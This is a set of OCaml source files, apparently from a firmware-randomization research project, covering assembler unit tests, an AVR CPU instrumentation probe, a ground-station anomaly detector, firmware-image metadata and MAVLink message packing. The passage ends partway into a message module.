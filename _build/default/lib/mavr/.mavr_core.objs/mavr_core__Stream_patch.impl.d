lib/mavr/stream_patch.ml: Array Buffer Bytes Char List Mavr_avr Mavr_obj Mavr_prng Patch Printf Shuffle String
