examples/bruteforce_study.ml: Array Format List Mavr_avr Mavr_bignum Mavr_core Mavr_firmware Mavr_obj Mavr_prng
