module Asm = Mavr_asm.Assembler
module Isa = Mavr_avr.Isa
module Decode = Mavr_avr.Decode
module Cpu = Mavr_avr.Cpu

let i x = Asm.Insn x

let simple_program ?(relax = false) () =
  let prog =
    {
      Asm.vectors = [ Asm.Jmp_sym "start" ];
      funcs =
        [
          { Asm.name = "start"; items = [ Asm.Call_sym "work"; i Isa.Break ] };
          { Asm.name = "work"; items = [ i (Isa.Ldi (16, 0x42)); i Isa.Ret ] };
        ];
      data = [];
      defines = [];
    }
  in
  Asm.assemble ~relax prog

let test_layout_and_symbols () =
  let out = simple_program () in
  let start = Asm.find_symbol out "start" in
  let work = Asm.find_symbol out "work" in
  Alcotest.(check int) "vectors take 4 bytes" 4 out.text_start;
  Alcotest.(check int) "start at text_start" out.text_start start.addr;
  Alcotest.(check int) "start size (call+break)" 6 start.size;
  Alcotest.(check int) "work follows" (start.addr + start.size) work.addr;
  Alcotest.(check int) "text_end" (work.addr + work.size) out.text_end

let test_program_runs () =
  let out = simple_program () in
  let cpu = Cpu.create () in
  Cpu.load_program cpu out.code;
  ignore (Cpu.run cpu ~max_cycles:1000);
  Alcotest.(check int) "executed through call" 0x42 (Cpu.reg cpu 16)

let test_relaxation_shrinks () =
  let long = simple_program ~relax:false () in
  let short = simple_program ~relax:true () in
  Alcotest.(check bool) "relaxed build smaller" true
    (String.length short.code < String.length long.code);
  (* The relaxed call must decode as rcall. *)
  let start = Asm.find_symbol short "start" in
  let insn, _ = Decode.decode_bytes short.code start.addr in
  (match insn with
  | Isa.Rcall _ -> ()
  | other -> Alcotest.failf "expected rcall, got %s" (Isa.to_string other));
  (* And still run correctly. *)
  let cpu = Cpu.create () in
  Cpu.load_program cpu short.code;
  ignore (Cpu.run cpu ~max_cycles:1000);
  Alcotest.(check int) "relaxed program works" 0x42 (Cpu.reg cpu 16)

let test_no_relax_keeps_long_form () =
  let out = simple_program ~relax:false () in
  let start = Asm.find_symbol out "start" in
  let insn, _ = Decode.decode_bytes out.code start.addr in
  match insn with
  | Isa.Call _ -> ()
  | other -> Alcotest.failf "expected call, got %s" (Isa.to_string other)

let test_relax_out_of_range_stays_long () =
  (* A call across a >4KB gap cannot relax. *)
  let prog =
    {
      Asm.vectors = [];
      funcs =
        [
          { Asm.name = "a"; items = [ Asm.Call_sym "b"; i Isa.Ret ] };
          { Asm.name = "gap"; items = [ Asm.Raw_bytes (String.make 5000 '\x00') ] };
          { Asm.name = "b"; items = [ i Isa.Ret ] };
        ];
      data = [];
      defines = [];
    }
  in
  let out = Asm.assemble ~relax:true prog in
  let insn, _ = Decode.decode_bytes out.code 0 in
  match insn with
  | Isa.Call _ -> ()
  | other -> Alcotest.failf "expected long call, got %s" (Isa.to_string other)

let test_relaxation_cascade () =
  (* f calls g across a gap that only fits rcall range after g's own call
     to h has shrunk — the relaxation fixpoint must iterate. *)
  let gap n = Asm.Raw_bytes (String.make n '\x00') in
  let prog =
    {
      Asm.vectors = [];
      funcs =
        [
          { Asm.name = "f"; items = [ Asm.Call_sym "g"; i Isa.Ret ] };
          (* 4094 bytes of padding: f->g distance is 4100 with g's call
             long (out of rcall range 4096) but 4098 once shrunk. *)
          { Asm.name = "pad1"; items = [ gap 4088 ] };
          { Asm.name = "g"; items = [ Asm.Call_sym "h"; i Isa.Ret ] };
          { Asm.name = "h"; items = [ i Isa.Ret ] };
        ];
      data = [];
      defines = [];
    }
  in
  let out = Asm.assemble ~relax:true prog in
  (* Both calls must end up short. *)
  let decode_at name =
    let sym = Asm.find_symbol out name in
    fst (Mavr_avr.Decode.decode_bytes out.code sym.addr)
  in
  (match decode_at "g" with
  | Isa.Rcall _ -> ()
  | other -> Alcotest.failf "g's call not relaxed: %s" (Isa.to_string other));
  match decode_at "f" with
  | Isa.Rcall _ -> ()
  | other -> Alcotest.failf "f's call not relaxed after cascade: %s" (Isa.to_string other)

let test_branch_and_local_labels () =
  let prog =
    {
      Asm.vectors = [];
      funcs =
        [
          {
            Asm.name = "f";
            items =
              [
                i (Isa.Ldi (16, 3));
                Asm.Label "loop";
                i (Isa.Dec 16);
                Asm.Br (`Cbit Isa.Flag.z, "loop");
                i (Isa.Ldi (17, 0x55));
                i Isa.Break;
              ];
          };
        ];
      data = [];
      defines = [];
    }
  in
  let out = Asm.assemble ~relax:false prog in
  let cpu = Cpu.create () in
  Cpu.load_program cpu out.code;
  ignore (Cpu.run cpu ~max_cycles:1000);
  Alcotest.(check int) "loop ran to zero" 0 (Cpu.reg cpu 16);
  Alcotest.(check int) "fell through" 0x55 (Cpu.reg cpu 17)

let test_branch_out_of_range_rejected () =
  let far_items =
    [ Asm.Br (`Cbit Isa.Flag.z, "far") ]
    @ List.init 100 (fun _ -> i Isa.Nop)
    @ [ Asm.Label "far"; i Isa.Ret ]
  in
  let prog =
    { Asm.vectors = []; funcs = [ { Asm.name = "f"; items = far_items } ]; data = []; defines = [] }
  in
  match Asm.assemble ~relax:false prog with
  | _ -> Alcotest.fail "expected out-of-range branch error"
  | exception Asm.Error _ -> ()

let test_duplicate_label_rejected () =
  let prog =
    {
      Asm.vectors = [];
      funcs =
        [
          { Asm.name = "f"; items = [ Asm.Label "x"; i Isa.Ret ] };
          { Asm.name = "g"; items = [ Asm.Label "x"; i Isa.Ret ] };
        ];
      data = [];
      defines = [];
    }
  in
  match Asm.assemble ~relax:false prog with
  | _ -> Alcotest.fail "expected duplicate label error"
  | exception Asm.Error _ -> ()

let test_undefined_label_rejected () =
  let prog =
    {
      Asm.vectors = [];
      funcs = [ { Asm.name = "f"; items = [ Asm.Call_sym "nowhere" ] } ];
      data = [];
      defines = [];
    }
  in
  match Asm.assemble ~relax:false prog with
  | _ -> Alcotest.fail "expected undefined label error"
  | exception Asm.Error _ -> ()

let test_ldi_sym_parts () =
  let prog =
    {
      Asm.vectors = [];
      funcs =
        [
          {
            Asm.name = "f";
            items =
              [
                Asm.Ldi_sym (24, Asm.Lo8, "VALUE");
                Asm.Ldi_sym (25, Asm.Hi8, "VALUE");
                Asm.Ldi_sym (26, Asm.Lo8_word, "VALUE");
                i Isa.Break;
              ];
          };
        ];
      data = [];
      defines = [ ("VALUE", 0x1234) ];
    }
  in
  let out = Asm.assemble ~relax:false prog in
  let cpu = Cpu.create () in
  Cpu.load_program cpu out.code;
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "lo8" 0x34 (Cpu.reg cpu 24);
  Alcotest.(check int) "hi8" 0x12 (Cpu.reg cpu 25);
  Alcotest.(check int) "lo8 of word addr" 0x1A (Cpu.reg cpu 26)

let test_word_sym_funptr () =
  let prog =
    {
      Asm.vectors = [];
      funcs = [ { Asm.name = "f"; items = [ i Isa.Ret ] } ];
      data = [ Asm.Word_sym "f"; Asm.Word_sym "f" ];
      defines = [];
    }
  in
  let out = Asm.assemble ~relax:false prog in
  Alcotest.(check int) "two pointer locations" 2 (List.length out.funptr_locs);
  let f = Asm.find_symbol out "f" in
  List.iter
    (fun loc ->
      let w = Char.code out.code.[loc] lor (Char.code out.code.[loc + 1] lsl 8) in
      Alcotest.(check int) "pointer holds word address" (f.addr / 2) w)
    out.funptr_locs

let test_jmp_sym_off () =
  (* Jump into the middle of a block: skip the first ldi. *)
  let prog =
    {
      Asm.vectors = [];
      funcs =
        [
          { Asm.name = "f"; items = [ Asm.Jmp_sym_off ("g", 1) ] };
          { Asm.name = "g"; items = [ i (Isa.Ldi (16, 1)); i (Isa.Ldi (17, 2)); i Isa.Break ] };
        ];
      data = [];
      defines = [];
    }
  in
  let out = Asm.assemble ~relax:false prog in
  let cpu = Cpu.create () in
  Cpu.load_program cpu out.code;
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "skipped ldi r16" 0 (Cpu.reg cpu 16);
  Alcotest.(check int) "executed ldi r17" 2 (Cpu.reg cpu 17)

let test_auto_labels () =
  let out = simple_program () in
  Alcotest.(check int) "__text_start" out.text_start (Asm.label_value out "__text_start");
  Alcotest.(check int) "__text_end" out.text_end (Asm.label_value out "__text_end");
  Alcotest.(check int) "__data_load_start" out.data_load (Asm.label_value out "__data_load_start")

let () =
  Alcotest.run "asm"
    [
      ( "assembler",
        [
          Alcotest.test_case "layout and symbols" `Quick test_layout_and_symbols;
          Alcotest.test_case "assembled program runs" `Quick test_program_runs;
          Alcotest.test_case "relaxation shrinks calls" `Quick test_relaxation_shrinks;
          Alcotest.test_case "--no-relax keeps long form" `Quick test_no_relax_keeps_long_form;
          Alcotest.test_case "out-of-range stays long" `Quick test_relax_out_of_range_stays_long;
          Alcotest.test_case "relaxation cascade (fixpoint)" `Quick test_relaxation_cascade;
          Alcotest.test_case "branches and local labels" `Quick test_branch_and_local_labels;
          Alcotest.test_case "branch out of range rejected" `Quick test_branch_out_of_range_rejected;
          Alcotest.test_case "duplicate label rejected" `Quick test_duplicate_label_rejected;
          Alcotest.test_case "undefined label rejected" `Quick test_undefined_label_rejected;
          Alcotest.test_case "ldi lo8/hi8" `Quick test_ldi_sym_parts;
          Alcotest.test_case "function pointers (Word_sym)" `Quick test_word_sym_funptr;
          Alcotest.test_case "jmp into block middle" `Quick test_jmp_sym_off;
          Alcotest.test_case "auto labels" `Quick test_auto_labels;
        ] );
    ]
