lib/objfile/symtab.mli: Image
