(** Ground-station model with anomaly detection.

    The stealthy attack's success criterion (§I, §IV-D) is that "the
    ground station or other monitoring entities will not be able to
    detect that an attack is undergoing".  This module is that monitoring
    entity: it consumes the telemetry byte stream and raises an alarm on
    any of the observable signatures of a {e non}-stealthy attack —
    heartbeat loss, telemetry silence, CRC corruption, resynchronization
    garbage, or sequence-number resets (the signature of an unexpected
    reboot). *)

type alarm =
  | Heartbeat_lost of { silent_ms : float }
  | Telemetry_silence of { silent_ms : float }
  | Link_corruption of { crc_errors : int; bytes_dropped : int }
  | Unexpected_reboot of { seq_jump : int }

val pp_alarm : Format.formatter -> alarm -> unit

(** Stable short key for an alarm kind (["heartbeat_lost"],
    ["telemetry_silence"], ["link_corruption"], ["unexpected_reboot"]) —
    used for telemetry event names and counters. *)
val alarm_key : alarm -> string

type t

(** [create ?heartbeat_timeout_ms ?telemetry_timeout_ms ()] *)
val create : ?heartbeat_timeout_ms:float -> ?telemetry_timeout_ms:float -> unit -> t

(** [feed t ~now_ms bytes] consumes a chunk of downlink. *)
val feed : t -> now_ms:float -> string -> unit

(** [check t ~now_ms] evaluates the alarm conditions at time [now_ms];
    newly raised alarms are returned (and retained in [alarms]). *)
val check : t -> now_ms:float -> alarm list

val alarms : t -> alarm list
val attack_suspected : t -> bool

(** Telemetry truth channel: last xgyro raw value seen in RAW_IMU. *)
val last_gyro_raw : t -> int option

(** Last xacc raw value seen in RAW_IMU. *)
val last_accel_raw : t -> int option

val frames_received : t -> int
val heartbeats_received : t -> int

(** [attach_metrics ?prefix t registry] exports the ground station's
    counters as sampled gauges ([<prefix>.frames], [.heartbeats],
    [.alarms]; default prefix ["gcs"]) and forwards the private downlink
    parser's statistics under [<prefix>.link] (frames_ok, crc_errors,
    bytes_dropped, bytes_pending). *)
val attach_metrics : ?prefix:string -> t -> Mavr_telemetry.Metrics.registry -> unit
