lib/mavlink/frame.ml: Buffer Char Crc Format List Messages String
