module Metrics = Mavr_telemetry.Metrics
module Recorder = Mavr_telemetry.Recorder

(* ---- instruction classification ------------------------------------- *)

(* Coarse mix classes: a bounded set of counters rather than one per
   mnemonic, which is what the overhead accounting needs (how much of the
   stream is ALU vs memory vs control) without 70 registry entries. *)
let class_names =
  [| "alu"; "transfer"; "load"; "store"; "io"; "branch"; "call"; "ret"; "jump"; "skip";
     "system"; "illegal" |]

let n_classes = Array.length class_names

let class_of (i : Isa.t) =
  match i with
  | Isa.Add _ | Isa.Adc _ | Isa.Sub _ | Isa.Sbc _ | Isa.And _ | Isa.Or _ | Isa.Eor _
  | Isa.Cp _ | Isa.Cpc _ | Isa.Mul _ | Isa.Subi _ | Isa.Sbci _ | Isa.Andi _ | Isa.Ori _
  | Isa.Cpi _ | Isa.Com _ | Isa.Neg _ | Isa.Inc _ | Isa.Dec _ | Isa.Lsr _ | Isa.Ror _
  | Isa.Asr _ | Isa.Swap _ | Isa.Adiw _ | Isa.Sbiw _ ->
      0 (* alu *)
  | Isa.Movw _ | Isa.Ldi _ | Isa.Mov _ | Isa.Bld _ | Isa.Bst _ | Isa.Bset _ | Isa.Bclr _ ->
      1 (* transfer *)
  | Isa.Lds _ | Isa.Ldd _ | Isa.Ld _ | Isa.Pop _ | Isa.Lpm0 | Isa.Lpm _ | Isa.Elpm0
  | Isa.Elpm _ ->
      2 (* load *)
  | Isa.Sts _ | Isa.Std _ | Isa.St _ | Isa.Push _ -> 3 (* store *)
  | Isa.In _ | Isa.Out _ | Isa.Sbi _ | Isa.Cbi _ -> 4 (* io *)
  | Isa.Brbs _ | Isa.Brbc _ -> 5 (* branch *)
  | Isa.Call _ | Isa.Rcall _ | Isa.Icall -> 6 (* call *)
  | Isa.Ret | Isa.Reti -> 7 (* ret *)
  | Isa.Jmp _ | Isa.Rjmp _ | Isa.Ijmp -> 8 (* jump *)
  | Isa.Cpse _ | Isa.Sbic _ | Isa.Sbis _ | Isa.Sbrc _ | Isa.Sbrs _ -> 9 (* skip *)
  | Isa.Nop | Isa.Wdr | Isa.Sleep | Isa.Break -> 10 (* system *)
  | Isa.Data _ -> 11 (* illegal *)

(* Static mnemonic heads for flight-recorder events: no allocation on the
   enabled path (Isa.to_string would build operand strings per event). *)
let mnemonic (i : Isa.t) =
  match i with
  | Isa.Nop -> "nop" | Isa.Movw _ -> "movw" | Isa.Ldi _ -> "ldi" | Isa.Mov _ -> "mov"
  | Isa.Add _ -> "add" | Isa.Adc _ -> "adc" | Isa.Sub _ -> "sub" | Isa.Sbc _ -> "sbc"
  | Isa.And _ -> "and" | Isa.Or _ -> "or" | Isa.Eor _ -> "eor" | Isa.Cp _ -> "cp"
  | Isa.Cpc _ -> "cpc" | Isa.Cpse _ -> "cpse" | Isa.Mul _ -> "mul" | Isa.Subi _ -> "subi"
  | Isa.Sbci _ -> "sbci" | Isa.Andi _ -> "andi" | Isa.Ori _ -> "ori" | Isa.Cpi _ -> "cpi"
  | Isa.Com _ -> "com" | Isa.Neg _ -> "neg" | Isa.Inc _ -> "inc" | Isa.Dec _ -> "dec"
  | Isa.Lsr _ -> "lsr" | Isa.Ror _ -> "ror" | Isa.Asr _ -> "asr" | Isa.Swap _ -> "swap"
  | Isa.Push _ -> "push" | Isa.Pop _ -> "pop" | Isa.Ret -> "ret" | Isa.Reti -> "reti"
  | Isa.Icall -> "icall" | Isa.Ijmp -> "ijmp" | Isa.Call _ -> "call" | Isa.Jmp _ -> "jmp"
  | Isa.Rcall _ -> "rcall" | Isa.Rjmp _ -> "rjmp" | Isa.Brbs _ -> "brbs"
  | Isa.Brbc _ -> "brbc" | Isa.In _ -> "in" | Isa.Out _ -> "out" | Isa.Lds _ -> "lds"
  | Isa.Sts _ -> "sts" | Isa.Ldd _ -> "ldd" | Isa.Std _ -> "std" | Isa.Ld _ -> "ld"
  | Isa.St _ -> "st" | Isa.Adiw _ -> "adiw" | Isa.Sbiw _ -> "sbiw" | Isa.Lpm0 -> "lpm"
  | Isa.Lpm _ -> "lpm" | Isa.Sbi _ -> "sbi" | Isa.Cbi _ -> "cbi" | Isa.Sbic _ -> "sbic"
  | Isa.Sbis _ -> "sbis" | Isa.Bld _ -> "bld" | Isa.Bst _ -> "bst" | Isa.Sbrc _ -> "sbrc"
  | Isa.Sbrs _ -> "sbrs" | Isa.Elpm0 -> "elpm" | Isa.Elpm _ -> "elpm" | Isa.Bset _ -> "bset"
  | Isa.Bclr _ -> "bclr" | Isa.Wdr -> "wdr" | Isa.Sleep -> "sleep" | Isa.Break -> "break"
  | Isa.Data _ -> "(data)"

let halt_key = function
  | Cpu.Illegal_instruction _ -> "illegal"
  | Cpu.Wild_pc _ -> "wild_pc"
  | Cpu.Break_hit -> "break"
  | Cpu.Sleep_mode -> "sleep"
  | Cpu.Rop_detected _ -> "rop_detected"

let halt_keys = [ "illegal"; "wild_pc"; "break"; "sleep"; "rop_detected" ]

(* ---- the probe bundle ----------------------------------------------- *)

type t = {
  cpu : Cpu.t;
  registry : Metrics.registry;
  recorder : Recorder.t;
  mutable last_dump : string option;
  mutable faults : int;
  (* Per-(block, executed-prefix-length) execution counts, flat array
     keyed [bi_key * stride + count]; [infos] memoizes each tallied
     block's identity.  Fields of [t] (not closure state) so the
     hotness profiler ({!block_stats}) can read them after a flight. *)
  mutable execs : int array;
  mutable infos : Cpu.block_info option array;
  stepped : int array;  (* per-class single-stepped instruction counts *)
  mutable stepped_total : int;
  mutable blocks_tallied : int;
}

let registry t = t.registry
let recorder t = t.recorder
let flight_record t = Recorder.events t.recorder
let last_fault_dump t = t.last_dump
let faults_seen t = t.faults

let min_sp t =
  let w = Cpu.sp_watermark t.cpu in
  if w = max_int then None else Some w

let render_dump p h =
  let cpu = p.cpu in
  Format.asprintf "flight recorder — CPU halted: %a@.  PC=0x%05x SP=0x%04x cycles=%d retired=%d@.%a"
    Cpu.pp_halt h (Cpu.pc_byte_addr cpu) (Cpu.sp cpu) (Cpu.cycles cpu)
    (Cpu.instructions_retired cpu) Recorder.pp_dump p.recorder

let attach ?(prefix = "avr") ?(recorder_capacity = 64) ~registry cpu =
  let name s = prefix ^ "." ^ s in
  let p =
    {
      cpu;
      registry;
      recorder = Recorder.create ~capacity:recorder_capacity;
      last_dump = None;
      faults = 0;
      execs = Array.make (256 * (Cpu.max_block_insns + 1)) 0;
      infos = Array.make 256 None;
      stepped = Array.make n_classes 0;
      stepped_total = 0;
      blocks_tallied = 0;
    }
  in
  let irq_count = Metrics.counter registry (name "irq.taken") in
  let irq_latency = Metrics.histogram registry (name "irq.latency_cycles") in
  let irq_masked = Metrics.histogram registry (name "irq.masked_cycles") in
  let halt_counters =
    List.map (fun k -> (k, Metrics.counter registry (name ("halt." ^ k)))) halt_keys
  in
  Metrics.sampled registry (name "cycles") (fun () -> Cpu.cycles cpu);
  Metrics.sampled registry (name "insn.retired") (fun () -> Cpu.instructions_retired cpu);
  (* SP high-water comes from the engine's own watermark (updated on
     every SP write path), not from sampling SP at tap time: it is exact
     under both block-grained and single-step execution, which the
     superblocks-on/off campaign byte-diff depends on. *)
  Metrics.sampled registry (name "stack.min_sp") (fun () ->
      let w = Cpu.sp_watermark cpu in
      if w = max_int then 0 else w);
  Metrics.sampled registry (name "stack.high_water_bytes") (fun () ->
      let w = Cpu.sp_watermark cpu in
      if w = max_int then 0 else Device.data_end (Cpu.device cpu) - 1 - w);
  (* Block-grained instruction mix, pull-based.  The block tap fires once
     per executed block on the engine's hot path, so it must do almost
     nothing: it records *which* (block, executed-prefix-length) pair ran
     — a single increment in a flat growable array keyed
     [bi_key * stride + count] — and the per-class counters are
     materialized on demand as [sampled_counter]s, which snapshot and
     merge exactly like plain counters.  Tracking per prefix length
     matters because side exits are the *common* case on trace-shaped
     blocks (a loop trace exits mid-block on its final iteration; ~2/3 of
     block executions retire a strict prefix), and both earlier designs —
     a per-instruction classification walk, then an eager per-prefix
     delta replay — put a dependent multi-line memory chain plus a run of
     counter adds on every block boundary.  [bi_key] is dense, unique per
     compiled block and never reused across flash epochs, so execution
     counts attributed to dead epochs stay valid history. *)
  let stride = Cpu.max_block_insns + 1 in
  (* Single-stepped instructions (interrupt windows, superblocks off)
     are classified eagerly — that path is already per-instruction. *)
  let stepped = p.stepped in
  let ensure_exec idx =
    let m = p.execs in
    if idx < Array.length m then m
    else begin
      let n = Array.make (max (idx + 1) (2 * Array.length m)) 0 in
      Array.blit m 0 n 0 (Array.length m);
      p.execs <- n;
      n
    end
  in
  let ensure_info key =
    let m = p.infos in
    if key < Array.length m then m
    else begin
      let n = Array.make (max (key + 1) (2 * Array.length m)) None in
      Array.blit m 0 n 0 (Array.length m);
      p.infos <- n;
      n
    end
  in
  (* Aggregation, amortized across the 13 mix cells: one cumulative
     prefix walk over every block ever executed, cached until more
     blocks run.  agg.(n_classes) is the grand total. *)
  let agg = Array.make (n_classes + 1) 0 in
  let agg_gen = ref (-1) in
  let aggregate () =
    if !agg_gen <> p.blocks_tallied then begin
      agg_gen := p.blocks_tallied;
      Array.fill agg 0 (n_classes + 1) 0;
      let e = p.execs in
      let counts = Array.make n_classes 0 in
      Array.iteri
        (fun key info ->
          match info with
          | None -> ()
          | Some (info : Cpu.block_info) ->
              let insns = info.Cpu.bi_insns in
              let base = key * stride in
              Array.fill counts 0 n_classes 0;
              for pfx = 1 to Array.length insns do
                let c = class_of insns.(pfx - 1) in
                counts.(c) <- counts.(c) + 1;
                let n = if base + pfx < Array.length e then e.(base + pfx) else 0 in
                if n > 0 then begin
                  for c = 0 to n_classes - 1 do
                    agg.(c) <- agg.(c) + (n * counts.(c))
                  done;
                  agg.(n_classes) <- agg.(n_classes) + (n * pfx)
                end
              done)
        p.infos
    end
  in
  Metrics.sampled_counter registry (name "insn.total") (fun () ->
      aggregate ();
      p.stepped_total + agg.(n_classes));
  Array.iteri
    (fun c cname ->
      Metrics.sampled_counter registry (name ("insn." ^ cname)) (fun () ->
          aggregate ();
          stepped.(c) + agg.(c)))
    class_names;
  (* The per-block flight-recorder event names the block's leading
     mnemonic; memoized per block so the hot path never re-matches. *)
  let no_head = String.make 0 'x' in
  let heads = ref (Array.make 256 no_head) in
  let head (info : Cpu.block_info) =
    let key = info.Cpu.bi_key in
    let h = !heads in
    let h =
      if key < Array.length h then h
      else begin
        let n = Array.make (max (key + 1) (2 * Array.length h)) no_head in
        Array.blit h 0 n 0 (Array.length h);
        heads := n;
        n
      end
    in
    let s = Array.unsafe_get h key in
    if s != no_head then s
    else begin
      let s = mnemonic info.Cpu.bi_insns.(0) in
      h.(key) <- s;
      s
    end
  in
  let on_block (info : Cpu.block_info) count =
    let key = info.Cpu.bi_key in
    let idx = (key * stride) + count in
    let e = ensure_exec idx in
    let v = Array.unsafe_get e idx in
    if v = 0 then (ensure_info key).(key) <- Some info;
    Array.unsafe_set e idx (v + 1);
    p.blocks_tallied <- p.blocks_tallied + 1;
    Recorder.point p.recorder ~cycle:(Cpu.cycles cpu) ~value:(info.Cpu.bi_pc * 2) (head info)
  in
  let on_step pc insn =
    p.stepped_total <- p.stepped_total + 1;
    let c = class_of insn in
    stepped.(c) <- stepped.(c) + 1;
    Recorder.point p.recorder ~cycle:(Cpu.cycles cpu) ~value:(pc * 2) (mnemonic insn)
  in
  Cpu.set_block_tap cpu ~on_block ~on_step;
  Cpu.set_irq_tap cpu
    (Some
       (fun ~latency ~masked ->
         Metrics.incr irq_count;
         Metrics.observe irq_latency latency;
         Metrics.observe irq_masked masked;
         Recorder.record p.recorder ~cycle:(Cpu.cycles cpu) ~value:latency "irq.timer"));
  Cpu.set_halt_tap cpu
    (Some
       (fun h ->
         p.faults <- p.faults + 1;
         (match List.assoc_opt (halt_key h) halt_counters with
         | Some c -> Metrics.incr c
         | None -> ());
         Recorder.record p.recorder ~cycle:(Cpu.cycles cpu) ~value:(Cpu.pc_byte_addr cpu)
           ("halt." ^ halt_key h);
         (* The automatic dump: capture the window at the instant of
            death, before any recovery path reflashes and keeps going. *)
         p.last_dump <- Some (render_dump p h)));
  p

let detach t =
  Cpu.clear_block_tap t.cpu;
  Cpu.set_irq_tap t.cpu None;
  Cpu.set_halt_tap t.cpu None

(* ---- hotness export -------------------------------------------------- *)

type block_stat = {
  bs_addr : int;
  bs_insns : int;
  bs_execs : int;
  bs_retired : int;
}

(* Aggregated by entry byte address rather than [bi_key]: keys are
   unique per compiled block, so a reflash epoch recompiling the same
   code would otherwise split one hot location across rows. *)
let block_stats t =
  let stride = Cpu.max_block_insns + 1 in
  let tbl = Hashtbl.create 256 in
  Array.iteri
    (fun key info ->
      match info with
      | None -> ()
      | Some (info : Cpu.block_info) ->
          let base = key * stride in
          let execs = ref 0 and retired = ref 0 in
          for pfx = 1 to Array.length info.Cpu.bi_insns do
            let n = if base + pfx < Array.length t.execs then t.execs.(base + pfx) else 0 in
            execs := !execs + n;
            retired := !retired + (n * pfx)
          done;
          if !execs > 0 then begin
            let addr = info.Cpu.bi_pc * 2 in
            let len = Array.length info.Cpu.bi_insns in
            match Hashtbl.find_opt tbl addr with
            | None -> Hashtbl.add tbl addr (len, !execs, !retired)
            | Some (l, e, r) -> Hashtbl.replace tbl addr (max l len, e + !execs, r + !retired)
          end)
    t.infos;
  Hashtbl.fold
    (fun addr (len, e, r) acc ->
      { bs_addr = addr; bs_insns = len; bs_execs = e; bs_retired = r } :: acc)
    tbl []
  |> List.sort (fun a b -> compare a.bs_addr b.bs_addr)

let stepped_insns t = t.stepped_total

let dump_to_json t =
  let module J = Mavr_telemetry.Json in
  J.Obj
    [
      ("faults", J.Int t.faults);
      ( "halt",
        match Cpu.halted t.cpu with
        | None -> J.Null
        | Some h -> J.String (Format.asprintf "%a" Cpu.pp_halt h) );
      ("pc", J.Int (Cpu.pc_byte_addr t.cpu));
      ("sp", J.Int (Cpu.sp t.cpu));
      ("cycles", J.Int (Cpu.cycles t.cpu));
      ("flight_record", Recorder.to_json t.recorder);
    ]
