(** Firmware images and their symbol information.

    An image is the flat flash contents of an application plus the metadata
    MAVR's preprocessing phase extracts from the ELF file (§VI-B2): the
    function symbols of the .text section (the blocks the randomizer
    shuffles) and the flash offsets of function pointers found in the data
    section (C++ vtables, call-routing arrays). *)

type kind = Func | Object

type symbol = { name : string; addr : int; size : int; kind : kind }
(** [addr]/[size] are in bytes within the image. *)

type t = {
  code : string;  (** full flash image *)
  exec_low_end : int;  (** end of the interrupt-vector code at address 0;
                           bytes in [[exec_low_end, text_start)) are
                           constant data, not instructions *)
  text_start : int;  (** first byte of the shuffleable function region *)
  text_end : int;  (** exclusive *)
  symbols : symbol list;  (** functions, ascending [addr], back to back *)
  funptr_locs : int list;  (** flash offsets holding 16-bit word addresses *)
}

(** [of_assembly ?exec_low_end out] packages an assembler output.
    [exec_low_end] defaults to [out.text_start] (no early rodata).
    @raise Invalid_argument when symbols are not contiguous in
    [[text_start, text_end)] (the randomizer requires exact block
    coverage). *)
val of_assembly : ?exec_low_end:int -> Mavr_asm.Assembler.output -> t

(** [validate t] re-checks the structural invariants; returns a
    human-readable error otherwise. *)
val validate : t -> (unit, string) result

val size : t -> int
val function_count : t -> int

(** [find t name] @raise Not_found when no such function. *)
val find : t -> string -> symbol

(** [function_containing t addr] is the function whose byte span contains
    [addr] (binary search — the lookup of §VI-B3 used for trampoline
    targets). *)
val function_containing : t -> int -> symbol option

(** [code_of t sym] is the machine code of one function block. *)
val code_of : t -> symbol -> string

(** Ascending byte addresses of the function symbols. *)
val function_starts : t -> int array

(** [is_function_start t addr] — whether [addr] is exactly a function
    entry (the property the lint checks of vector-table and vtable
    targets rely on). *)
val is_function_start : t -> int -> bool

(** FNV-1a hash of the code bytes — a cheap fingerprint used in tests and
    by the master processor to distinguish binary generations. *)
val fingerprint : t -> int

val pp_summary : Format.formatter -> t -> unit
