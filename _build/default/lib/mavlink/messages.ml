type def = { msgid : int; name : string; crc_extra : int; payload_len : int }

let heartbeat = { msgid = 0; name = "HEARTBEAT"; crc_extra = 50; payload_len = 9 }
let sys_status = { msgid = 1; name = "SYS_STATUS"; crc_extra = 124; payload_len = 31 }
let param_set = { msgid = 23; name = "PARAM_SET"; crc_extra = 168; payload_len = 23 }
let gps_raw_int = { msgid = 24; name = "GPS_RAW_INT"; crc_extra = 24; payload_len = 30 }
let raw_imu = { msgid = 27; name = "RAW_IMU"; crc_extra = 144; payload_len = 26 }
let attitude = { msgid = 30; name = "ATTITUDE"; crc_extra = 39; payload_len = 28 }
let command_long = { msgid = 76; name = "COMMAND_LONG"; crc_extra = 152; payload_len = 33 }
let statustext = { msgid = 253; name = "STATUSTEXT"; crc_extra = 83; payload_len = 51 }

let all =
  [ heartbeat; sys_status; param_set; gps_raw_int; raw_imu; attitude; command_long; statustext ]

let find msgid = List.find_opt (fun d -> d.msgid = msgid) all

let crc_extra_of msgid = match find msgid with Some d -> d.crc_extra | None -> 0

(* Little-endian field packing helpers. *)

let put_u8 buf v = Buffer.add_char buf (Char.chr (v land 0xFF))

let put_u16 buf v =
  put_u8 buf v;
  put_u8 buf (v lsr 8)

let put_u32 buf v =
  put_u16 buf v;
  put_u16 buf (v lsr 16)

let put_u64 buf v =
  put_u32 buf v;
  put_u32 buf (v lsr 32)

let put_i16 buf v = put_u16 buf (v land 0xFFFF)

let put_f32 buf v = put_u32 buf (Int32.to_int (Int32.bits_of_float v) land 0xFFFFFFFF)

let put_chars buf n s =
  String.iter (Buffer.add_char buf) (if String.length s > n then String.sub s 0 n else s);
  for _ = String.length s to n - 1 do
    Buffer.add_char buf '\x00'
  done

let get_u8 s pos = Char.code s.[pos]
let get_u16 s pos = get_u8 s pos lor (get_u8 s (pos + 1) lsl 8)
let get_u32 s pos = get_u16 s pos lor (get_u16 s (pos + 2) lsl 16)
let get_u64 s pos = get_u32 s pos lor (get_u32 s (pos + 4) lsl 32)

let get_i16 s pos =
  let v = get_u16 s pos in
  if v >= 0x8000 then v - 0x10000 else v

let get_f32 s pos = Int32.float_of_bits (Int32.of_int (get_u32 s pos))

let get_chars s pos n =
  let raw = String.sub s pos n in
  match String.index_opt raw '\x00' with Some i -> String.sub raw 0 i | None -> raw

let checked name len s k = if String.length s <> len then Error (name ^ ": bad payload length") else Ok (k ())

module Heartbeat = struct
